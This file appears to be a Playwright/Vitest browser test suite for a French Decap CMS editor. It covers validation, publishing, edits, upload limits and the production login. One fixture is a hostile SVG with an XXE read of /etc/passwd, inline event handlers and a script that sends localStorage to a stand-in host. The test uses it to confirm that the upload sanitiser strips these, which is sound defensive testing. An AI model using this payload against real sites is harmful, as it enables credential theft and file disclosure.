/**
 * The online editor in Chromium. decap-server runs against a copy of the repository, and
 * the copy is built with `CMS_LOCAL_BACKEND_URL` (the test-only build flag) so that its
 * /admin/ writes there. The production /admin/ is checked on the normal build.
 */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { watchPage } from '../helpers/browser.ts';
import { serveDirectory } from '../helpers/static-server.ts';
import { DIST } from '../helpers/site.ts';
import {
  RICH_TEXT_EDITOR,
  bodyMode,
  field,
  fillToolkit,
  mediaFiles as listMedia,
  frontmatter,
  openAdmin as openCmsAdmin,
  publish,
  publishAndWait as publishToProxy,
  rebuildCopy,
  selectInEditor,
  startCmsStand,
  type CmsStand,
} from '../helpers/cms.ts';
import { toolkitSchema } from '../../src/schemas/toolkit.ts';
import { FIELD_CONTAINER } from '../../src/cms/locale-fr.ts';
import { toEntry } from '../../src/lib/catalogue.ts';
import { toolkitFacts } from '../../src/lib/toolkit-facts.ts';
import { checkSvg } from '../../scripts/lib/validate/rules/media.ts';
import { MEDIA_TYPES } from '../../src/lib/media-types.ts';

let stand: CmsStand;

const TOOLKITS = 'content/toolkits';
const MEDIA = 'public/media';

/** An SVG that would read the editors' tokens if it were served as it is. */
const HOSTILE_SVG = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="alert(1)">
  <script>fetch('https://exemple.org/?' + JSON.stringify(localStorage))</script>
  <style>@import url(https://exemple.org/x.css); .fond { fill: url(#degrade) }</style>
  <linearGradient id="degrade"><stop offset="0" stop-color="#fc0"/></linearGradient>
  <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="/admin/"/></foreignObject>
  <a xlink:href="javascript:alert(2)"><circle class="fond" cx="5" cy="5" r="4" onclick="alert(3)"/></a>
  <image href="https://exemple.org/pixel.png" width="1" height="1"/>
  <text>&secret;</text>
</svg>
`;

/** Opens Decap's media library from the header, and a way to choose a file in it. */
async function openMediaLibrary(): Promise<{ page: Page; problems: () => string[]; dialogs: string[] }> {
  const { page, problems } = await openAdmin('/collections/toolkits');
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.getByRole('button', { name: 'Images et fichiers', exact: true }).click();
  await page.getByText('Envoyer une image ou un fichier').waitFor();
  return { page, problems, dialogs };
}
const NEW_SLUG = 'atelier-velo-reparer-ensemble';

beforeAll(async () => {
  stand = await startCmsStand();
}, 180_000);

afterAll(async () => {
  await stand.close();
});

const openAdmin = (path: string) => openCmsAdmin(stand, path);
const mediaFiles = () => listMedia(stand.copy.root);
const publishAndWait = (page: Page) => publishToProxy(page, stand.proxy.url);

describe('the online editor, with decap-server on a copy of the repository', () => {
  it('is built for production, with the test-only flag pointing its /admin/ to this decap-server', () => {
    expect(existsSync(join(stand.copy.root, 'dist/pagefind/pagefind.js'))).toBe(true);
    const html = readFileSync(join(stand.copy.root, 'dist/admin/index.html'), 'utf8');
    expect(html).toContain(`"local_backend":{"url":"${stand.proxy.url}","allowed_hosts":["127.0.0.1","localhost"]}`);
  });

  it('shows a French error and writes nothing when a required field is empty', async () => {
    const before = readdirSync(join(stand.copy.root, TOOLKITS)).sort();
    const { page, problems } = await openAdmin('/collections/toolkits/new');
    await field(page, 'title').fill('Fiche incomplète');
    await publish(page);
    await page.getByText('Il manque un champ obligatoire : complétez-le avant d’enregistrer.').waitFor();
    // Under each field, and at the top of the form (tests/browser/cms-checks.test.ts).
    const fields = page.locator(FIELD_CONTAINER);
    await expect(fields.getByText('Le champ Résumé est requis.').isVisible()).resolves.toBe(true);
    await expect(fields.getByText('Le champ Catégorie est requis.').isVisible()).resolves.toBe(true);
    await page.locator('#kpa-checks').getByText('Le champ Résumé est requis.').waitFor();
    expect(stand.saves).toEqual([]);
    expect(readdirSync(join(stand.copy.root, TOOLKITS)).sort()).toEqual(before);
    // Decap stops the save by rejecting a promise with no reason, which nothing catches.
    expect(problems().filter((p) => p !== 'exception: undefined')).toEqual([]);
    await page.close();
  });

  it('refuses, in French and before writing anything, a toolkit that the schema refuses', async () => {
    const { page, problems } = await openAdmin('/collections/toolkits/new');
    await fillToolkit(page, { groupMin: '12', groupMax: '3' });
    const preview = page.locator('iframe').first().contentFrame();
    await expect(
      preview.getByText('Taille du groupe › Minimum : le minimum dépasse le maximum (taille du groupe)').isVisible(),
    ).resolves.toBe(true);
    await publish(page);
    const refusal = 'rien n’a été enregistré : 1 point à corriger, listé en haut du formulaire et sous son champ';
    await page.getByText(`Échec de l'enregistrement de l'entrée : ${refusal}`).waitFor();
    // The point itself, at the top of the form (tests/browser/cms-checks.test.ts shows the rest).
    await expect(
      page
        .locator('#kpa-checks li')
        .filter({ hasText: 'Le minimum dépasse le maximum (taille du groupe).' })
        .isVisible(),
    ).resolves.toBe(true);
    expect(stand.saves).toEqual([]);
    expect(existsSync(join(stand.copy.root, TOOLKITS, `${NEW_SLUG}.mdx`))).toBe(false);
    // Decap logs the refused save (our error), then rejects a promise that nothing catches.
    const [logged, ...others] = problems();
    expect(logged?.split('\n')[0]).toBe(`console: EntryError: ${refusal}`);
    expect(others).toEqual(['exception: Object']);
    await page.close();
  });

  it('creates a toolkit from the form, with its facts in the preview, as a valid .mdx that a build renders', async () => {
    const { page, problems } = await openAdmin('/collections/toolkits/new');
    await fillToolkit(page, { groupMin: '3', groupMax: '12' });

    const preview = page.locator('iframe').first().contentFrame();
    await preview.locator('dl.toolkit-facts').waitFor();
    expect(await preview.locator('dl.toolkit-facts dt').allTextContents()).toEqual([
      'Catégorie',
      'Difficulté',
      'Durée',
      'Groupe',
      'Budget indicatif',
    ]);

    await publishAndWait(page);
    const file = join(stand.copy.root, TOOLKITS, `${NEW_SLUG}.mdx`);
    expect(existsSync(file)).toBe(true);
    const text = readFileSync(file, 'utf8');
    expect(problems()).toEqual([]);
    await page.close();

    const data = toolkitSchema.parse(frontmatter(text));
    expect(data).toMatchObject({
      title: 'Atelier vélo : réparer ensemble',
      category: 'reparation-et-reemploi',
      difficulty: 2,
      duration: { preparation: 60, activity: 180 },
      groupSize: { min: 3, max: 12 },
      budget: { min: 0, max: 40 },
      materials: [{ name: 'Chambres à air de rechange', quantity: '5 de chaque taille' }],
      license: 'CC-BY-SA-4.0',
    });
    expect(text).toContain('\ndifficulty: 2\n');
    expect(text).toMatch(/\nupdated: \d{4}-\d{2}-\d{2}\n/);
    expect(
      text.endsWith(
        '---\n\nUn atelier ouvert à toutes et tous.\n\n## Déroulé\n\n1. Accueillir les vélos.\n2. Diagnostiquer.\n3. Réparer ensemble.\n',
      ),
    ).toBe(true);
    if (existsSync(join(stand.copy.root, 'scripts', 'validate.ts'))) {
      const validate = spawnSync('npm', ['run', '--silent', 'validate', '--', join(TOOLKITS, `${NEW_SLUG}.mdx`)], {
        cwd: stand.copy.root,
        encoding: 'utf8',
      });
      expect(validate.status, validate.stdout + validate.stderr).toBe(0);
    }

    // The same build flag, so that the admin of the copy keeps writing there afterwards.
    rebuildCopy(stand);
    const built = await stand.browser.context.newPage();
    const watched = watchPage(built);
    await built.goto(`${stand.site.url}/boites-a-outils/${NEW_SLUG}/`, { waitUntil: 'networkidle' });
    const facts = toolkitFacts(toEntry({ slug: NEW_SLUG, file, data }, new Map(), []));
    expect(await built.locator('dl.toolkit-facts dt').allTextContents()).toEqual(facts.map((f) => f.label));
    const shown = (await built.locator('dl.toolkit-facts dd').allInnerTexts()).map((t) => t.replace(/\s+/g, ' '));
    facts.forEach((fact, i) => {
      expect(shown[i]).toContain(fact.value);
    });
    expect(await built.locator('h1').first().textContent()).toBe('Atelier vélo : réparer ensemble');
    expect(watched.problems).toEqual([]);
    await built.close();
  }, 180_000);

  it('changes only the edited words when a guide page is edited', async () => {
    const path = join(stand.copy.root, 'content/docs/decouvrir/genese.mdx');
    const before = readFileSync(path, 'utf8');
    const { page, problems } = await openAdmin('/collections/guide-decouvrir/entries/genese');
    await field(page, 'title').fill('La genèse de KPA-Cité');
    // In rich text, where this page opens for someone who has not chosen Markdown.
    await bodyMode(page, 'rich');
    await selectInEditor(page, 'départ est clair', RICH_TEXT_EDITOR);
    await page.keyboard.insertText('départ est simple');
    await publishAndWait(page);
    expect(readFileSync(path, 'utf8')).toBe(
      before
        .replace('\ntitle: La genèse\n', '\ntitle: La genèse de KPA-Cité\n')
        .replace('départ est clair', 'départ est simple'),
    );
    expect(problems()).toEqual([]);
    await page.close();
  });
});

describe('uploads through the online editor', () => {
  it('stores an uploaded SVG without its script, handlers, foreignObject, DOCTYPE or outside references', async () => {
    const { page, problems, dialogs } = await openMediaLibrary();
    await page
      .locator('input[type="file"]')
      .setInputFiles({ name: 'piege.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(HOSTILE_SVG) });
    // Stored under a safe name followed by the digest of the cleaned drawing.
    const named = () => mediaFiles().filter((f) => /^piege-[0-9a-f]{8}\.svg$/.test(f));
    const contents = () => named().map((f) => readFileSync(join(stand.copy.root, MEDIA, f), 'utf8'));
    // decap-server creates the file, then writes it: wait for the whole drawing.
    await expect.poll(() => contents().map((t) => t.trimEnd().endsWith('</svg>')), { timeout: 15_000 }).toEqual([true]);
    const stored = join(stand.copy.root, MEDIA, named()[0] ?? '');
    const text = readFileSync(stored, 'utf8');
    // The drawing is still there (a stylesheet with an @import goes whole), and the gate of
    // `npm run validate` finds nothing left.
    expect(text).toContain('<circle class="fond" cx="5" cy="5" r="4"/>');
    expect(text).toContain('<linearGradient id="degrade">');
    expect(checkSvg(readFileSync(stored))).toEqual([]);
    for (const gone of [
      'script',
      'onload',
      'onclick',
      'foreignObject',
      'iframe',
      'DOCTYPE',
      'exemple.org',
      'javascript:',
    ]) {
      expect(text).not.toContain(gone);
    }
    expect(dialogs).toEqual([]);
    // Parsing the file (DOMParser) is enough for Chromium to weigh its two `on…` attributes
    // against the page's Content-Security-Policy, which refuses them: one report each.
    // Nothing ran, and nothing else went wrong.
    const refused =
      /^console: Executing inline event handler violates the following Content Security Policy directive 'script-src /;
    expect(problems().filter((p) => !refused.test(p))).toEqual([]);
    expect(problems().filter((p) => refused.test(p))).toHaveLength(2);
    await page.close();
  });

  it('refuses, in French and before anything is written, a photo over the limit of its type', async () => {
    const { page, problems, dialogs } = await openMediaLibrary();
    const photo = Buffer.alloc(MEDIA_TYPES.jpeg.maxBytes + 1);
    photo.set([0xff, 0xd8, 0xff, 0xe0]);
    await page
      .locator('input[type="file"]')
      .setInputFiles({ name: 'photo.jpg', mimeType: 'image/jpeg', buffer: photo });
    await expect
      .poll(() => dialogs)
      .toEqual([
        '« photo.jpg » est trop lourd (3,1 Mo, au plus 3 Mo pour un JPEG) : réduisez ses dimensions ou sa qualité, puis réessayez.',
      ]);
    expect(mediaFiles().filter((f) => f.startsWith('photo'))).toEqual([]);
    expect(problems()).toEqual([]);
    await page.close();
  });
});

describe('the production /admin/', () => {
  it('opens the French GitHub login, with no request to another address and no console error', async () => {
    const prod = await serveDirectory(DIST);
    const page = await stand.browser.context.newPage();
    const watched = watchPage(page);
    const elsewhere: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(`${prod.url}/`)) elsewhere.push(request.url());
    });
    await page.goto(`${prod.url}/admin/`, { waitUntil: 'networkidle' });
    await page.getByRole('button', { name: 'Se connecter avec GitHub' }).waitFor();
    expect(await page.locator('html').getAttribute('lang')).toBe('fr');
    expect(elsewhere).toEqual([]);
    expect(watched.problems).toEqual([]);
    await page.close();
    await prod.close();
  });
});
